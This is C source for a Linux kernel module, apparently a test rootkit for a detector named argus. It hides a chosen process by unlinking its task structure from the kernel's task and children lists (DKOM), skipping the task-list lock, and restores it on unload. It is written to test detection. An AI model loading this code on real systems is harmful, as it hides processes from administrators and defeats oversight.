// SPDX-License-Identifier: GPL-2.0
/*
 * hidepid - a test rootkit for argus's Process Hidden detection.
 *
 * insmod hidepid.ko pid=N [children=1]
 * unlinks the task N from the kernel's task list (what `ps` and /proc
 * readdir walk), and with children=1 also from its parent's children list:
 * the technique of rootkits that hide a process by DKOM.  rmmod puts it
 * back.  For testing only; loaded in a disposable test guest.
 */
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>

static int pid;
module_param(pid, int, 0444);
static int children;
module_param(children, int, 0444);

static struct task_struct *hidden;

static int __init hidepid_init(void)
{
	struct task_struct *t;

	rcu_read_lock();
	t = pid_task(find_vpid(pid), PIDTYPE_PID);
	if (t)
		get_task_struct(t);
	rcu_read_unlock();
	if (!t)
		return -ESRCH;
	/* tasklist_lock is not exported: like real rootkits, go without it
	 * (the test guest is quiet while this runs) */
	list_del_rcu(&t->tasks);
	INIT_LIST_HEAD(&t->tasks);
	if (children) {
		list_del(&t->sibling);
		INIT_LIST_HEAD(&t->sibling);
	}
	hidden = t;
	pr_info("hidepid: pid %d unlinked%s\n", pid, children ? " (and from its parent)" : "");
	return 0;
}

static void __exit hidepid_exit(void)
{
	if (!hidden)
		return;
	list_add_tail_rcu(&hidden->tasks, &init_task.tasks);
	if (children)
		list_add_tail(&hidden->sibling, &hidden->real_parent->children);
	put_task_struct(hidden);
}

module_init(hidepid_init);
module_exit(hidepid_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("argus test rootkit: hide a process from the task list");
